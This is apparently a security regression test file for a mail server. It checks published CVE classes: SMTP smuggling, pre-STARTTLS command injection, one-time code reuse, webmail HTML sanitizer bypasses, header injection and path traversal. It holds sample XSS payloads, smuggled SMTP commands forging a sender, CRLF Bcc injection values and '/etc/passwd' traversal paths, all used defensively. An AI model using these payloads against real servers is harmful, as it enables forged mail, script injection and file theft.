/**
 * Public advisories of mail servers, webmails and their libraries, tried here by kind. Each test names those that it
 * is of; docs/security.md has what can't be tried.
 */
import assert from "node:assert/strict";
import { flattenAddresses, parseAddressList } from "../../src/mail/address/address.ts";
import { strictAuthors } from "../../src/mail/address/author.ts";
import { parseMessage } from "../../src/mail/structure/structure.ts";
import { sanitizeMessageHtml } from "../../src/web/webmail/html/sanitize.ts";
import { adminPassword, Line, password, startWorld, type World } from "./world.ts";
import { processorMs } from "../support/processor.ts";

const ann = "ann@mox.example";
const b64 = (s: string) => btoa(s);

async function mailTo(w: World, body: string): Promise<string> {
  await using c = await Line.dial(w.ports.smtp, "127.7.0.1");
  await c.until(/^220 [^\r\n]*\r\n/m);
  await c.smtp("EHLO sender.example");
  await c.smtp("MAIL FROM:<joe@sender.example>");
  await c.smtp("RCPT TO:<bob@mox.example>");
  await c.smtp("DATA");
  c.write(body);
  return await c.until(/^[245]\d\d [^\r\n]*\r\n/m);
}

Deno.test("SMTP smuggling (CVE-2023-51764, -51765, -51766, CVE-2024-27305): nothing but CRLF.CRLF ends a message", async () => {
  await using w = await startWorld();
  for (const end of ["\n.\n", "\n.\r\n", "\r\n.\n", "\r.\r", "\r\n.\r", "\n.\r"]) {
    const inner = "MAIL FROM:<ceo@mox.example>\r\nRCPT TO:<bob@mox.example>\r\nDATA\r\n" +
      "From: <ceo@mox.example>\r\n\r\nforged\r\n";
    const answer = await mailTo(
      w,
      `From: <joe@sender.example>\r\n\r\nhello${end}${inner}.\r\n`,
    ).catch(String);
    assert.doesNotMatch(answer, /^250 2\.0\.0/m, JSON.stringify(end));
  }
  const a = await w.server.accounts.open("bob");
  try {
    const inbox = a.mailboxByName("Inbox")!.id;
    assert.ok(a.uids(inbox).length <= 1);
  } finally {
    a.close();
  }
});

Deno.test("commands before STARTTLS (CVE-2011-0411, CVE-2021-33515): what came in plain is not carried out after it", async () => {
  await using w = await startWorld();
  for (
    const [port, greeting, inject, go] of [
      [
        w.ports.smtp,
        /^220 [^\r\n]*\r\n/m,
        "EHLO x\r\nSTARTTLS\r\nMAIL FROM:<x@x.example>\r\n",
        /^220 2/m,
      ],
      [w.ports.imap, /^\* OK[^\r\n]*\r\n/m, "a STARTTLS\r\nb CAPABILITY\r\n", /^a OK/m],
      [w.ports.pop3, /^\+OK[^\r\n]*\r\n/m, "STLS\r\nCAPA\r\n", /^(?:\+OK|-ERR)/m],
    ] as const
  ) {
    await using c = await Line.dial(port, "127.7.0.2");
    await c.until(greeting);
    c.write(inject);
    await c.until(go).catch(() => "");
    const rest = await Promise.race([
      c.until(/^(?:250 2\.1\.0|b OK|SASL)[^\r\n]*\r\n/m, 700).catch(() => ""),
    ]);
    assert.equal(rest, "", String(port));
  }
});

Deno.test("a login that is no base64 (CVE-2025-59028) harms no other login", async () => {
  await using w = await startWorld();
  await using good = await Line.dial(w.ports.imap, "127.7.0.3");
  await good.until(/^\* OK[^\r\n]*\r\n/m);
  good.write("a AUTHENTICATE PLAIN\r\n");
  await good.until(/^\+ /m);
  for (const text of ["!!!", "AAA", "====", "\u00ff\u00fe", b64("x").repeat(5000)]) {
    await using bad = await Line.dial(w.ports.imap, "127.7.0.4");
    await bad.until(/^\* OK[^\r\n]*\r\n/m);
    await bad.imap(`AUTHENTICATE PLAIN ${text}`).catch(() => "");
  }
  good.write(`${b64(`\0${ann}\0${password}`)}\r\n`);
  assert.match(await good.until(/^a [^\r\n]*\r\n/m), /^a OK/m);
});

Deno.test("one-time codes twice (CVE-2026-27855): each is good once", async () => {
  await using w = await startWorld();
  const { totpCode, totpStep } = await import("../../src/store/logins/totp.ts");
  const b = w.browser();
  await b.call("/api/Login", { username: ann, password });
  const { json } = await b.call("/api/SecondFactorBegin", {});
  const key = String(json.key);
  const now = totpStep(Date.now());
  const code = totpCode(key, now);
  await b.call("/api/SecondFactorOn", { key, code, current: password });
  const totp = totpCode(key, now + 1);
  const tries = await Promise.all(
    [1, 2, 3].map(() => w.browser().call("/api/Login", { username: ann, password, totp })),
  );
  assert.deepEqual(tries.map((t) => t.status).sort(), [200, 401, 401]);
});

Deno.test("HTML that runs or loads (CVE-2023-5631, -2024-37383, -2018-19206, -2016-4552, -2020-13965, -2026-31807, -2026-44990, -2026-25896, and those of Roundcube 1.6.12 and 1.7.4)", () => {
  for (
    const html of [
      '<svg><use href="dAta:image/s\tvg+xml;base64,PHN2Zz48aW1hZ2UgaHJlZj0ieCIgb25lcnJvcj0iYWxlcnQoMSkiLz48L3N2Zz4=#x">',
      '<svg><animate attributeName="href " values="javascript:alert(1)" /><a id="x"><text>click</text></a></svg>',
      "<html><svg><style><//><body onload=alert(1)>",
      '<map name="foo"><area href=javascript:alert(1) shape=default></map><img usemap=#foo>',
      '<svg><set attributeName="src" to="http://tracker.example/x"></svg>',
      '<body background="x);background:url(http://tracker.example/x">hi</body>',
      '<div style="background:url(&#38;quot;http://tracker.example/x&#38;quot;)">x</div>',
      '<style>@import "http://tracker.example/x";</style>',
      '<div style="background:\\75rl(http://tracker.example/x)">x</div>',
      '<rect fill="\\75rl(http://tracker.example/x#a)"/>',
      '<a href="java\nscript:alert(1)">x</a><a href="&#x6a;avascript:alert(1)">y</a>',
      '<form action="http://evil.example"><input name=password></form>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
      '<base href="http://evil.example/"><link rel=stylesheet href="http://evil.example/x">',
      '<meta http-equiv=refresh content="0;url=http://evil.example/">',
      "<xmp><script>alert(1)</script><img src=x onerror=alert(1)></xmp>",
      "<noembed><script>alert(1)</script></noembed><plaintext><img src=x onerror=alert(1)>",
      '<svg><a id=x><animate attributeName=href values="javascript:alert(1)"/></a><set attributeName=href to="javascript:alert(1)"/></svg>',
      '<!DOCTYPE x [<!ENTITY l. "<script>alert(1)</script>">]><p>&lt;&l.;</p>',
    ]
  ) {
    const out = sanitizeMessageHtml(html, {
      external: false,
      inline: () => undefined,
    }).html;
    assert.doesNotMatch(
      out,
      /<script|<svg|<use|<animate|<set|<iframe|<base|<link|<meta|<form|onload|onerror|javascript:|@import|srcdoc/i,
      html,
    );
    assert.doesNotMatch(out, /(?:src|url\(|background)[^>]{0,40}tracker\.example/i, html);
  }
});

Deno.test("address lists that take long or recurse (CVE-2025-14874, GHSA-2x7j-588g-ccc2, CVE-2024-23184): linear, and no error", () => {
  for (
    const text of [
      "g:".repeat(50_000),
      "(".repeat(100_000),
      "<".repeat(100_000),
      '"'.repeat(99_999),
      "a@".repeat(50_000),
      "a b ".repeat(30_000),
      "x@y.example,".repeat(100_000),
      "\\".repeat(100_000),
      "=?utf-8?q?".repeat(20_000),
    ]
  ) {
    const ms = processorMs(() => {
      flattenAddresses(parseAddressList(text));
      strictAuthors(text);
    });
    // It is some ms; quadratic work would take minutes.
    assert.ok(ms < 5000, `${ms} ms for ${text.slice(0, 10)}`);
  }
});

Deno.test("an address with another one in quotes (CVE-2025-13033): mail goes to the domain behind the last @", async () => {
  const [a] = flattenAddresses(parseAddressList('"joe@evil.example x"@mox.example'));
  assert.deepEqual([a.localpart, a.domain], ["joe@evil.example x", "mox.example"]);
  await using w = await startWorld();
  await using c = await Line.dial(w.ports.smtp, "127.7.0.5");
  await c.until(/^220 [^\r\n]*\r\n/m);
  await c.smtp("EHLO x.example");
  await c.smtp("MAIL FROM:<x@x.example>");
  for (
    const to of [
      '"joe@evil.example"@mox.example',
      '"bob@mox.example"@evil.example',
      "bob%evil.example@mox.example",
      "@mox.example:joe@evil.example",
      "bob@mox.example@evil.example",
    ]
  ) assert.match(await c.smtp(`RCPT TO:<${to}>`), /^5/, to);
});

Deno.test("parts in parts in parts (CVE-2020-12100), and headers without end (CVE-2024-23185): bounded", () => {
  let text = "";
  for (let i = 0; i < 5000; i++) {
    text += `Content-Type: multipart/mixed; boundary=b${i}\r\n\r\n--b${i}\r\n`;
  }
  const ms = processorMs(() => {
    parseMessage(new TextEncoder().encode(text));
    parseMessage(new TextEncoder().encode("X: y\r\n".repeat(200_000)));
  });
  assert.ok(ms < 10_000, `${ms} ms`);
});

Deno.test("header injection (GHSA-268h-hp4c-crq3, and those of Roundcube 1.7.4): a line break in a value makes no field", async () => {
  await using w = await startWorld();
  const send = (body: Record<string, unknown>) =>
    fetch(`http://127.0.0.1:${w.ports.web}/webapi/v0/Send`, {
      method: "POST",
      headers: {
        "Content-Type": "application/json",
        Authorization: `Basic ${b64(`${ann}:${password}`)}`,
      },
      body: JSON.stringify({ To: [{ Address: "bob@mox.example" }], Text: "x", ...body }),
    });
  for (
    const [field, value] of [
      ["Subject", "x\r\nBcc: evil@evil.example"],
      ["Subject", "x\rBcc: evil@evil.example"],
      ["From", [{ Name: "x\r\nBcc: evil@evil.example", Address: ann }]],
      ["From", [{ Name: "x\rBcc: evil@evil.example", Address: ann }]],
      ["Headers", [["List-Id", "x\r\nBcc: evil@evil.example"]]],
      ["Headers", [["List-Help (\r\nBcc: evil@evil.example)", "x"]]],
    ] as const
  ) {
    const r = await send({ [field]: value });
    await r.body?.cancel();
    assert.ok([200, 400].includes(r.status), `${field}: ${r.status}`);
  }
  const plain = await send({ Subject: "plain" });
  await plain.body?.cancel();
  assert.equal(plain.status, 200);
  const bob = await w.server.accounts.open("bob");
  try {
    await w.server.queue.idle();
    const texts = [...filesBelow(`${w.dir}/data`)].filter((p) =>
      /\/(?:queue|msg)\/(?:.*\/)?\w+$/.test(p)
    )
      .map((p) => Deno.readTextFileSync(p));
    assert.ok(texts.some((t) => /^Subject: plain/m.test(t)), "messages were found");
    for (const t of texts) assert.ok(!/^Bcc:/im.test(t), t.slice(0, 500));
  } finally {
    bob.close();
  }
});

function* filesBelow(dir: string): Generator<string> {
  for (const e of Deno.readDirSync(dir)) {
    if (e.isDirectory) yield* filesBelow(`${dir}/${e.name}`);
    else if (e.isFile) yield `${dir}/${e.name}`;
  }
}

Deno.test("an account that may not log in any more (CVE-2022-24732) doesn't, on any protocol", async () => {
  await using w = await startWorld({
    domains: `Domains:
	mox.example: nil
Accounts:
	ann:
		Domain: mox.example
		LoginDisabled: gone
		Destinations:
			ann@mox.example: nil
`,
  });
  await assert.rejects(() => w.imap(ann), /AUTHENTICATIONFAILED/);
  await assert.rejects(() => w.submission(ann), /^Error: 535/);
  assert.equal((await w.browser().call("/api/Login", { username: ann, password })).status, 403);
  await using p = await Line.dial(w.ports.pop3, "127.7.0.6");
  await p.until(/OK[^\r\n]*\r\n/);
  p.write(`USER ${ann}\r\nPASS ${password}\r\n`);
  assert.match(await p.until(/-ERR[^\r\n]*\r\n/), /-ERR/);
});

Deno.test("uploads and names that lead out of their folder (CVE-2025-52691): no path of a request is a path on disk", async () => {
  await using w = await startWorld();
  const b = w.browser();
  await b.call("/admin/api/Login", { username: "", password: adminPassword });
  for (const name of ["../x", "..", "a/../../x", "x\0", "/etc", "a\\..\\x"]) {
    const r = await b.call("/admin/api/AccountAdd", { name, address: "x@mox.example" });
    assert.ok(r.status >= 400, name);
  }
  for (
    const path of [
      "/webmail/../data/index.db",
      "/webmail/%2e%2e/%2e%2e/etc/passwd",
      "/..%2f..%2fetc%2fpasswd",
      "/webmail/message/..%2f1/raw",
    ]
  ) {
    const r = await b.request(path);
    await r.body?.cancel();
    assert.ok(r.status >= 300, path);
  }
});
